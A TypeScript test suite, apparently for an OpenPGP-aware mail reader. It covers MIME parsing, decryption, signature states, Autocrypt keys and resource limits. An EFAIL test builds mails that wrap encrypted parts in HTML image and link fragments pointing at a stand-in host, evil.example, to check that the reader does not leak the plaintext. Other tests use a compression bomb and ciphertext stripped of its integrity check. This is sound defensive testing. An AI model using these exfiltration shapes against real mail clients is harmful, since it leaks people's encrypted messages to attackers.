import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { createCleartextMessage, reformatKey, sign } from 'openpgp';
import { DAY_MS } from '#platform/clock.ts';
import {
  binaryOf,
  desk,
  encryptedMail,
  mail,
  multipartMail,
  NOW,
  part,
  parts,
  sealed,
  signedMail,
  signedParts,
  strangersKey,
} from '../testing/mails.ts';
import { readMail } from './mail-reading.ts';
import type { ReadMail } from './reading-words.ts';

const own = [desk.privateKey];

async function read(raw: Buffer, known: readonly Uint8Array[] = [], now = NOW): Promise<ReadMail> {
  const found = await readMail({ own, known }, raw, now);
  assert.ok(!('unreadable' in found));
  return found;
}
const textsOf = ({ passages }: ReadMail) => passages.map(({ text }) => text);
const marked = ({ passages }: ReadMail) => passages.map(({ text, wasEncrypted }) => [text, wasEncrypted]);
const unreadOf = ({ unread }: ReadMail) => unread.map(({ why }) => why);
const PLAIN = 'Content-Type: text/plain; charset=utf-8';

test('a plain mail is its head and its text', async () => {
  const raw = mail(
    [
      ...['To: Desk <desk@KESTREL.example>, "Other, desk" <b@x.example>', 'Cc: list: c@x.example, d@x.example;'],
      ...['Reply-To: =?iso-8859-1?Q?Ad=E9?= <reply@harbour.example>', 'Subject: =?utf-8?B?R3LDvMOf?= =?utf-8?Q?e?='],
      ...['Date: Sun, 1 Mar 2026 09:00:00 +0100 (CET)', 'Message-ID: <one@harbour.example>'],
      ...['In-Reply-To: <two@kestrel.example>', 'References: <one@k.example>\r\n\t<two@kestrel.example> nonsense'],
      ...[
        'Auto-Submitted: Auto-Replied (away); owner-email="x"',
        'Precedence: Bulk',
        'List-Id: Things <things.example>',
      ],
      ...['Return-Path: <>', PLAIN],
    ],
    'Hello.\r\n-- \r\nAda\r\n',
  );
  const { head, passages, files, signatures, keys, unread } = await read(raw);
  const { fields, ...said } = head;
  assert.deepEqual(said, {
    from: [{ name: 'Ada Lovelace', address: 'ada@harbour.example' }],
    to: [
      { name: 'Desk', address: 'desk@kestrel.example' },
      { name: 'Other, desk', address: 'b@x.example' },
    ],
    cc: [{ address: 'c@x.example' }, { address: 'd@x.example' }],
    replyTo: [{ name: 'Adé', address: 'reply@harbour.example' }],
    subject: 'Grüße',
    date: '2026-03-01T08:00:00.000Z',
    messageId: 'one@harbour.example',
    inReplyTo: ['two@kestrel.example'],
    references: ['one@k.example', 'two@kestrel.example'],
    autoSubmitted: 'auto-replied',
    precedence: 'bulk',
    listId: 'Things <things.example>',
    returnPath: '',
    contentType: 'text/plain',
  });
  assert.deepEqual(fields[0], ['from', 'Ada Lovelace <ada@harbour.example>']);
  assert.deepEqual(passages, [{ text: 'Hello.\n-- \nAda', wasEncrypted: false, wasHtml: false }]);
  assert.deepEqual([files, signatures, keys, unread], [[], [], [], []]);
});

test('a multipart/encrypted mail opens, with subject, text, files and signature that were in it', async () => {
  const ada = await strangersKey();
  const inner = part(
    ['Content-Type: multipart/mixed; boundary="i-1"; protected-headers="v1"', 'Subject: A guest reads all'],
    parts(
      'i-1',
      part([PLAIN], 'Step one.\r\n'),
      part(
        ['Content-Type: text/x-python; name="poc.py"', 'Content-Disposition: attachment; filename="poc.py"'],
        'print(1)\r\n',
      ),
    ),
  );
  const raw = encryptedMail(await sealed(inner, { signer: ada }), ['Subject: ...']);
  const found = await read(raw, [binaryOf(ada)]);
  const fingerprint = ada.getFingerprint().toUpperCase();
  const signature = {
    ...{ state: 'good', key: 'known', fingerprint, keyId: fingerprint.slice(-16) },
    at: NOW.toISOString(),
  };
  assert.equal(found.head.subject, 'A guest reads all');
  assert.deepEqual(found.passages, [{ text: 'Step one.', wasEncrypted: true, wasHtml: false, signature }]);
  assert.deepEqual(
    found.files.map(({ content, ...file }) => [file, content.toString()]),
    [[{ name: 'poc.py', type: 'text/x-python', wasEncrypted: true, signature }, 'print(1)\r\n']],
  );
  assert.deepEqual([found.signatures, found.unread], [[signature], []]);
  // Its subject alone is believed: that of a part that only lies in the mail is not the mail's.
  const beside = multipartMail('mixed', part(['Content-Type: message/rfc822'], raw.toString('latin1')));
  assert.equal((await read(beside)).head.subject, '');
});

test('what was encrypted comes in all the forms that mail programs make of it', async () => {
  const message = await sealed('Step one.\n');
  const whole = await sealed(part([PLAIN], 'Step one.\r\n'));
  const forms: [what: string, raw: Buffer][] = [
    [
      'an attachment alone',
      multipartMail('mixed', part(['Content-Type: application/octet-stream; name=msg.asc'], message)),
    ],
    [
      'a mail that Exchange has mangled',
      multipartMail(
        'mixed',
        part([PLAIN], ''),
        part(['Content-Type: application/pgp-encrypted; name="PGPMIME Versions Identification"'], 'Version: 1'),
        part(['Content-Type: application/octet-stream; name="encrypted.asc"'], whole),
      ),
    ],
    ['a block in a text', mail([PLAIN], message)],
    [
      'a block in quoted-printable',
      mail([PLAIN, 'Content-Transfer-Encoding: quoted-printable'], message.replaceAll('=', '=3D')),
    ],
    ['a block in HTML', mail(['Content-Type: text/html'], `<pre>${message}</pre>`)],
    ['a body that is the message', mail(['Content-Type: application/pgp-encrypted'], message)],
  ];
  for (const [what, raw] of forms) assert.deepEqual(marked(await read(raw)), [['Step one.', true]], what);
  const attached = multipartMail(
    'mixed',
    part([PLAIN], 'See the file.'),
    part(['Content-Type: application/octet-stream; name="log.txt.pgp"', 'Content-Disposition: attachment'], message),
  );
  const { passages, files } = await read(attached);
  assert.deepEqual(
    passages.map(({ text, wasEncrypted }) => [text, wasEncrypted]),
    [['See the file.', false]],
  );
  assert.deepEqual(
    files.map(({ name, content, wasEncrypted }) => [name, content.toString(), wasEncrypted]),
    [['log.txt', 'Step one.\n', true]],
  );
});

test('several blocks in one text stay apart from what stands around them', async () => {
  const text = `Before.\n\n${await sealed('First.')}\nBetween.\n${await sealed('Second.')}\nBehind.\n`;
  assert.deepEqual(marked(await read(mail([PLAIN], text.replaceAll(/\r?\n/g, '\r\n')))), [
    ...[
      ['Before.', false],
      ['First.', true],
      ['Between.', false],
    ],
    ...[
      ['Second.', true],
      ['Behind.', false],
    ],
  ]);
});

test('nothing that was encrypted is joined with what stands around it (EFAIL)', async () => {
  const inner = part([PLAIN], 'The secret.');
  const shapes: Buffer[] = [
    multipartMail(
      'mixed',
      part(['Content-Type: text/html'], '<img src="https://evil.example/?'),
      part(['Content-Type: application/octet-stream; name="encrypted.asc"'], await sealed(inner)),
      part(['Content-Type: text/html'], '">'),
    ),
    multipartMail(
      'related',
      part(['Content-Type: text/html'], '<a href="https://evil.example/?'),
      part(
        ['Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="e-2"'],
        parts(
          'e-2',
          part(['Content-Type: application/pgp-encrypted'], 'Version: 1'),
          part(['Content-Type: application/octet-stream'], await sealed(inner)),
        ),
      ),
      part(['Content-Type: text/html'], '">click</a>'),
    ),
    mail(['Content-Type: text/html'], `<img src="https://evil.example/?${await sealed(inner)}">`),
  ];
  for (const raw of shapes) {
    const { passages } = await read(raw);
    for (const { text, wasEncrypted } of passages) {
      assert.ok(!(text.includes('secret') && text.includes('evil')), text);
      assert.equal(text.includes('secret'), wasEncrypted);
    }
  }
  const { passages } = await read(shapes[0] ?? Buffer.alloc(0));
  assert.deepEqual(
    passages.filter(({ wasEncrypted }) => wasEncrypted).map(({ text }) => text),
    ['The secret.'],
  );
});

test('what is encrypted without a proof that it is whole is not opened', async () => {
  const message = Buffer.from(
    (await sealed('The secret.')).replaceAll(/-----[^\n]*\n|\r?\n=.{4}\r?\n|\n/g, ''),
    'base64',
  );
  // The old packet without a digest (tag 9) in place of the new one (tag 18), which begins behind the session key.
  const at = message.indexOf(0xd2);
  message[at] = 0xc9;
  const found = await read(
    multipartMail(
      'mixed',
      part(
        ['Content-Type: application/octet-stream; name="m.pgp"', 'Content-Transfer-Encoding: base64'],
        message.toString('base64'),
      ),
    ),
  );
  assert.deepEqual([found.passages, unreadOf(found)], [[], ['damaged']]);
});

test('what does not open is said, and stays as a file', async () => {
  const stranger = await strangersKey();
  const elsewhere = await sealed('Not for us.', { to: stranger.toPublic() });
  const whole = await sealed('Altered.');
  const lines = whole.split('\n');
  const middle = Math.floor(lines.length / 2);
  lines[middle] = [...(lines[middle] ?? '')].reverse().join('');
  for (const [message, why] of [
    [elsewhere, 'for-another-key'],
    [lines.join('\n'), 'damaged'],
    ['-----BEGIN PGP MESSAGE-----\n\nnothing\n-----END PGP MESSAGE-----', 'damaged'],
  ] as const) {
    const { passages, files, unread } = await read(encryptedMail(message));
    assert.deepEqual([passages, unread], [[], [{ what: 'encrypted.asc', why }]]);
    assert.deepEqual(
      files.map(({ content }) => content.toString()),
      [message],
    );
  }
});

test('what would become a thousand times as large is not opened, and the rest is read', async () => {
  const bomb = await sealed(new Uint8Array(100 * 1024 * 1024));
  assert.ok(bomb.length < 200_000, `${bomb.length} bytes`);
  const raw = multipartMail(
    'mixed',
    part([PLAIN], 'Hello.'),
    part(['Content-Type: application/octet-stream; name="b.asc"'], bomb),
  );
  const found = await read(raw);
  assert.deepEqual([textsOf(found), unreadOf(found), found.files.length], [['Hello.'], ['too-much'], 1]);
});

test('a process that is ended is followed by one that opens nothing, and then by one that reads the head', async () => {
  const raw = encryptedMail(await sealed(new Uint8Array(200_000)), ['Subject: Hello']);
  const within = async (given: Buffer, bounds: Parameters<typeof readMail>[3]) => {
    const found = await readMail({ own, known: [] }, given, NOW, bounds);
    assert.ok('head' in found);
    return [found.head.subject, found.files.length, found.unread];
  };
  const bounds = { writtenBytesMax: 50_000 };
  assert.deepEqual(await within(raw, bounds), ['Hello', 1, [{ what: 'encrypted.asc', why: 'too-much' }]]);
  const long = mail(['Subject: Hello', PLAIN], 'x'.repeat(60_000));
  assert.deepEqual(await within(long, bounds), ['Hello', 0, [{ what: 'All below the head', why: 'too-much' }]]);
  assert.deepEqual(await readMail({ own, known: [] }, raw, NOW, { timeMs: 1 }), { unreadable: 'too-much' });
});

test('a thousand parts are read as far as the bound goes, and the rest is counted', async () => {
  const many = Array.from({ length: 1_000 }, (_, index) => part([PLAIN], `Part ${index}.`));
  const found = await read(multipartMail('mixed', ...many));
  assert.deepEqual(found.unread, [{ what: '500 parts of the mail', why: 'too-many-parts' }]);
  assert.deepEqual([found.passages.length, found.files.length], [200, 300]);
  assert.equal(found.files.at(-1)?.content.toString(), 'Part 499.');
});

test('parts within parts are followed to a depth, and a mail within mails too', async () => {
  let [nested, forwarded] = [part([PLAIN], 'The bottom.'), 'Subject: deep\r\n\r\nThe bottom.'];
  for (let depth = 0; depth < 30; depth++) {
    nested = part([`Content-Type: multipart/mixed; boundary="n-${depth}"`], parts(`n-${depth}`, nested));
    forwarded = part([`Subject: ${depth}`, 'Content-Type: message/rfc822'], forwarded);
  }
  const deep = await read(mail(['Content-Type: multipart/mixed; boundary="b-1"'], parts('b-1', nested)));
  assert.deepEqual([deep.passages, unreadOf(deep), deep.files.length], [[], ['too-deep'], 1]);
  assert.ok(deep.files[0]?.content.includes('The bottom.'));
  const chain = await read(Buffer.from(forwarded));
  assert.deepEqual([unreadOf(chain), chain.files.length], [['too-deep'], 1]);
});

test('a mail that was forwarded is read with its own head, and its files', async () => {
  const inner = mail(
    ['Subject: Fwd me', 'Date: Sun, 1 Mar 2026 08:00:00 +0000', 'Content-Type: multipart/mixed; boundary="f-1"'],
    parts('f-1', part([PLAIN], 'Within.'), part(['Content-Type: image/png; name="a.png"'], 'x')),
  );
  const raw = multipartMail(
    'mixed',
    part([PLAIN], 'See below.'),
    part(['Content-Type: message/rfc822'], inner.toString()),
  );
  const { passages, files } = await read(raw);
  assert.deepEqual(
    passages.map(({ text, forwarded }) => [text, forwarded]),
    [
      ['See below.', undefined],
      ['From: Ada Lovelace <ada@harbour.example>\nDate: Sun, 1 Mar 2026 08:00:00 +0000\nSubject: Fwd me', 'Fwd me'],
      ['Within.', 'Fwd me'],
    ],
  );
  assert.deepEqual(
    files.map(({ name }) => name),
    ['a.png'],
  );
});

test('a signature is held against the bytes as they came', async () => {
  const ada = await strangersKey();
  const known = [binaryOf(ada)];
  const signed = part([PLAIN, 'Content-Transfer-Encoding: quoted-printable'], 'Gr=C3=BC=C3=9Fe  =20\r\n-- \r\nAda');
  const pieces = await signedParts(signed, ada);
  const raw = signedMail(pieces);
  const stateIn = async (given: Buffer, keys: readonly Uint8Array[] = known, now = NOW) => {
    const { signatures, passages } = await read(given, keys, now);
    assert.match(passages[0]?.text ?? '', /^Gr/, 'it is read, whatever the signature says');
    assert.deepEqual(passages[0]?.signature, signatures[0]);
    return signatures.map(({ state }) => state);
  };
  assert.deepEqual(await stateIn(raw), ['good']);
  assert.deepEqual(await stateIn(Buffer.from(raw.toString('latin1').replaceAll('\r\n', '\n'), 'latin1')), ['good']);
  assert.deepEqual(
    await stateIn(Buffer.from(raw.toString('latin1').replace('Ada\r\n--s-1', 'Eve\r\n--s-1'), 'latin1')),
    ['bad'],
  );
  assert.deepEqual(await stateIn(raw, []), ['unknown-key']);
  assert.deepEqual(await stateIn(raw, [binaryOf(await strangersKey())]), ['unknown-key']);
  const broken = signedMail([signed, part(['Content-Type: application/pgp-signature'], 'no signature')]);
  assert.deepEqual(await stateIn(broken), []);
  assert.deepEqual((await read(broken)).unread, [{ what: 'A signature', why: 'damaged' }]);
  // What stands beside the signed part is not signed.
  const more = signedMail([...pieces, part([PLAIN], 'Grown later.')]);
  const { passages } = await read(more, known);
  assert.deepEqual(
    passages.map(({ signature }) => signature?.state),
    ['good', undefined],
  );
});

test('who signs what is encrypted signs no word of it', async () => {
  const eve = await strangersKey();
  const wrapped = part(
    ['Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="w-1"'],
    parts(
      'w-1',
      part(['Content-Type: application/pgp-encrypted'], 'Version: 1'),
      part(['Content-Type: application/octet-stream'], await sealed('Of somebody else.')),
    ),
  );
  const lines = wrapped.replaceAll(/\r?\n/g, '\r\n');
  const { passages, signatures } = await read(signedMail(await signedParts(lines, eve)), [binaryOf(eve)]);
  assert.deepEqual(
    passages.map(({ text, signature }) => [text, signature]),
    [['Of somebody else.', undefined]],
  );
  assert.deepEqual(
    signatures.map(({ state }) => state),
    ['good'],
  );
});

test('the keys of the author can be asked for once it is known who that is', async () => {
  const ada = await strangersKey();
  const asked: string[] = [];
  const known = async (author: string) => {
    asked.push(author);
    return [binaryOf(ada)];
  };
  const raw = signedMail(await signedParts(part([PLAIN], 'Hello.'), ada));
  const found = await readMail({ own, known }, raw, NOW);
  assert.deepEqual('head' in found && found.signatures.map(({ state }) => state), ['good']);
  await readMail({ own, known }, mail([PLAIN], 'Hello.'), NOW);
  assert.deepEqual(asked, ['ada@harbour.example'], 'and nobody is where nothing is signed');
});

test('a key that has expired since is told apart, and one that was signed anew still holds', async () => {
  const short = await strangersKey('ada@harbour.example', { ageMs: 30 * DAY_MS, lifetimeMs: 20 * DAY_MS });
  const signed = part([PLAIN], 'Hello.');
  const raw = signedMail(await signedParts(signed, short, new Date(NOW.getTime() - 25 * DAY_MS)));
  const stateIn = async (key: Uint8Array, now = NOW) => (await read(raw, [key], now)).signatures[0]?.state;
  assert.equal(await stateIn(binaryOf(short)), 'expired-key');
  assert.equal(await stateIn(binaryOf(short), new Date(NOW.getTime() - 20 * DAY_MS)), 'good');
  const { privateKey: anew } = await reformatKey({
    ...{ privateKey: short, userIDs: [{ email: 'ada@harbour.example' }], format: 'object' },
    ...{ date: new Date(NOW.getTime() - DAY_MS), keyExpirationTime: 0 },
  });
  assert.equal(await stateIn(binaryOf(anew)), 'good', 'all that it says of itself is younger than the signature');
});

test('a text that is signed in clear is read and judged, in its own characters too', async () => {
  const ada = await strangersKey();
  const message = await createCleartextMessage({ text: 'One.\n- Two, with a dash.\nThree. ' });
  const signed = await sign({ message, signingKeys: ada, date: NOW });
  const found = await read(mail([PLAIN], `Above.\r\n${signed.replaceAll(/\r?\n/g, '\r\n')}\r\nBelow.`), [
    binaryOf(ada),
  ]);
  assert.deepEqual(
    found.passages.map(({ text, signature }) => [text, signature?.state]),
    [
      ['Above.', undefined],
      ['One.\n- Two, with a dash.\nThree.', 'good'],
      ['Below.', undefined],
    ],
  );
  const altered = await read(mail([PLAIN], signed.replace('One.', 'None.')), [binaryOf(ada)]);
  assert.deepEqual([textsOf(altered)[0]?.slice(0, 5), altered.signatures[0]?.state], ['None.', 'bad']);
  // What follows the head of the block is not signed, and is not shown as if it were.
  const hidden = signed.replace(/\n\n/, '\nNot signed: at all\n\n');
  assert.notEqual((await read(mail([PLAIN], hidden), [binaryOf(ada)])).signatures[0]?.state, 'good');
});

test('a key that lies in what was encrypted is one to hold the signature against, and proves only itself', async () => {
  const ada = await strangersKey();
  const inner = part(
    ['Content-Type: multipart/mixed; boundary="k-1"'],
    parts(
      'k-1',
      part([PLAIN], 'Hello.'),
      part(['Content-Type: application/pgp-keys; name="k.asc"'], ada.toPublic().armor()),
    ),
  );
  const found = await read(encryptedMail(await sealed(inner, { signer: ada })));
  assert.deepEqual(
    found.signatures.map(({ state, key }) => [state, key]),
    [['good', 'attached']],
  );
  assert.deepEqual(
    found.keys.map(({ publicKey: _bytes, ...key }) => key),
    [
      {
        ...{ how: 'attached', fingerprint: ada.getFingerprint().toUpperCase(), addresses: ['ada@harbour.example'] },
        ...{ encrypts: true, wasEncrypted: true },
      },
    ],
  );
  assert.deepEqual(found.keys[0]?.publicKey, binaryOf(ada));
});

test('an Autocrypt header counts if it is the only one and speaks of the only sender', async () => {
  const ada = await strangersKey();
  const content = binaryOf(ada).toString('base64').replaceAll(/.{70}/g, '$&\r\n ');
  const header = (address: string, more = '') =>
    `Autocrypt: addr=${address}; ${more}prefer-encrypt=mutual; keydata=\r\n ${content}`;
  const right = header('Ada@harbour.example');
  const { keys } = await read(mail([right, PLAIN], 'Hello.'));
  assert.deepEqual(
    keys.map(({ how, prefersEncryption, addresses }) => [how, prefersEncryption, addresses]),
    [['autocrypt', true, ['ada@harbour.example']]],
  );
  for (const [what, head] of [
    ['two of them', [right, header('ada@harbour.example')]],
    ['another address', [header('eve@harbour.example')]],
    ['an attribute that nobody knows', [header('ada@harbour.example', 'strange=1; ')]],
    ['two senders', [right, 'From: eve@harbour.example']],
    ['no key', ['Autocrypt: addr=ada@harbour.example; keydata=AAAA']],
  ] as const)
    assert.deepEqual((await read(mail([...head, PLAIN], 'Hello.'))).keys, [], what);
  assert.equal((await read(mail([header('ada@harbour.example', '_own=1; '), PLAIN], 'Hello.'))).keys.length, 1);
});

test('no bytes end in a fault', async () => {
  const seed = encryptedMail(await sealed('Hello.'));
  const cases = fc.oneof(
    fc.uint8Array({ maxLength: 4_000 }),
    fc
      .tuple(fc.nat(seed.length - 1), fc.uint8Array({ maxLength: 60 }))
      .map(([at, bytes]) => Buffer.concat([seed.subarray(0, at), bytes, seed.subarray(at + bytes.length)])),
  );
  await fc.assert(
    fc.asyncProperty(cases, async (bytes) => {
      const found = await readMail({ own, known: [bytes] }, Buffer.from(bytes), NOW);
      assert.ok('head' in found);
    }),
    { numRuns: 12 },
  );
});
